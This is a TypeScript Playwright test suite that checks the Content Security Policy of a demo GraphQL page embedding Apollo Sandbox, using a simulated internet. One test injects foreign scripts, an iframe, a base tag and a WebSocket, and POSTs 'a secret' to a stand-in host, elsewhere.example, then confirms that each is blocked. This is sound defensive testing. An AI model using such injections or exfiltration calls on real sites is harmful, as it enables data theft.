// Apollo Sandbox in Chromium, with a simulated internet.
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Browser, Route } from 'playwright-core';
import { browserPath, type ObservedPage, openPage, startBrowser } from '../support/browser.js';
import { startTestApp, type TestApp } from '../support/client.js';
import { withBrowser } from '../support/visit.js';

const SANDBOX_SCRIPT = 'https://embeddable-sandbox.cdn.apollographql.com';
const SANDBOX_FRAME = 'https://sandbox.embed.apollographql.com';

let browser: Browser;
let demo: TestApp;
beforeAll(async () => {
  if (browserPath) browser = await startBrowser();
  demo = await startTestApp({ DEMO_DATA: 'on' });
});
afterAll(async () => {
  await Promise.all([browser?.close(), demo?.close()]);
});

withBrowser('the Sandbox', () => {
  /** A reduced version of Apollo's script with what the policy must permit: a frame, and the initial operation. */
  const SCRIPT = `window.EmbeddedSandbox = class {
    constructor({ target, initialEndpoint, initialSubscriptionEndpoint, initialState }) {
      const frame = document.createElement('iframe');
      frame.src = '${SANDBOX_FRAME}/sandbox/explorer';
      document.querySelector(target).append(frame);
      const { document: query, headers } = initialState;
      window.response = fetch(initialEndpoint, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ query, operationName: 'Apiaries' }),
      }).then((response) => response.json());
      const socket = new WebSocket(initialSubscriptionEndpoint, 'graphql-transport-ws');
      socket.onopen = () => socket.send(JSON.stringify({ type: 'connection_init', payload: headers }));
      window.socketMessage = new Promise((resolve) => { socket.onmessage = ({ data }) => resolve(JSON.parse(data)); });
    }
  };`;

  /** Simulates an internet where every URL exists and CORS allows everything, so that only the page's policy can refuse a request. */
  const internet = (requestedOrigins: string[]) => async (route: Route) => {
    const url = new URL(route.request().url());
    if (url.hostname === '127.0.0.1') return route.continue();
    requestedOrigins.push(url.origin);
    const body = url.origin === SANDBOX_SCRIPT ? SCRIPT : '';
    const kinds: Record<string, string> = { script: 'text/javascript', stylesheet: 'text/css', document: 'text/html' };
    const contentType = kinds[route.request().resourceType()] ?? 'application/octet-stream';
    return route.fulfill({ body, contentType, headers: { 'access-control-allow-origin': '*' } });
  };

  const visitSandbox = async (
    work: (observed: ObservedPage, requestedOrigins: string[]) => Promise<void>,
  ): Promise<void> => {
    const observed = await openPage(browser);
    const requestedOrigins: string[] = [];
    try {
      await observed.context.route('**', internet(requestedOrigins));
      await observed.page.goto(`${demo.url}/graphql`, { waitUntil: 'load' });
      await work(observed, requestedOrigins);
    } finally {
      await observed.context.close();
    }
  };
  const cspViolations = (complaints: string[]) => complaints.filter((text) => text.startsWith('CSP: ')).sort();

  it('may load its parts, and opens with an operation that returns the demo data', async () => {
    await visitSandbox(async ({ page, complaints }, requestedOrigins) => {
      await page.waitForFunction('window.response');
      const { data } = await page.evaluate<{ data: { apiaries: { nodes: { name: string }[] } } }>('window.response');
      expect(data.apiaries.nodes.map(({ name }) => name)).toEqual(['El Encinar', 'La Vega', 'Orchard Hill']);
      expect(await page.evaluate('window.socketMessage')).toEqual({ type: 'connection_ack' });
      expect(requestedOrigins).toEqual([SANDBOX_SCRIPT, SANDBOX_FRAME]);
      expect(await page.locator('main').isVisible()).toBe(false);
      const frame = await page.locator('#sandbox iframe').boundingBox();
      expect([frame!.width, frame!.height]).toEqual([1280, expect.any(Number)]);
      expect(frame!.height).toBeGreaterThan(700);
      expect(page.frames().map((frame) => new URL(frame.url()).origin)).toEqual([demo.url, SANDBOX_FRAME]);
      expect(cspViolations(complaints)).toEqual([]);
    });
  });

  it('may load nothing else', async () => {
    await visitSandbox(async ({ page, complaints }, requestedOrigins) => {
      await page.evaluate(`(async () => {
        const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
        add('script', { src: 'https://elsewhere.example/script.js' });
        add('script', { textContent: 'window.intruder = true' });
        add('iframe', { src: 'https://elsewhere.example/frame' });
        add('img', { src: 'https://elsewhere.example/picture.png' });
        add('link', { rel: 'stylesheet', href: 'https://elsewhere.example/style.css' });
        add('base', { href: 'https://elsewhere.example/' });
        await fetch('https://elsewhere.example/', { method: 'POST', body: 'a secret' }).catch(() => {});
        new WebSocket('wss://elsewhere.example/');
      })()`);
      const from = 'https://elsewhere.example';
      const expected = [
        `CSP: base-uri ${from}/`,
        `CSP: connect-src ${from}/`,
        'CSP: connect-src wss://elsewhere.example/',
        `CSP: frame-src ${from}`,
        `CSP: img-src ${from}/picture.png`,
        `CSP: script-src-elem ${from}/script.js`,
        'CSP: script-src-elem inline',
        `CSP: style-src-elem ${from}/style.css`,
      ];
      // Some violations are reported twice: by the policy in the header and by that in Apollo's <meta>.
      const reported = () => [...new Set(cspViolations(complaints))];
      const waitForMore = () => page.waitForEvent('console').catch(() => undefined);
      while (reported().length < expected.length && (await waitForMore()));
      expect(reported()).toEqual(expected);
      expect(requestedOrigins).not.toContain('https://elsewhere.example');
      expect(await page.evaluate('window.intruder')).toBeUndefined();
    });
  });
});
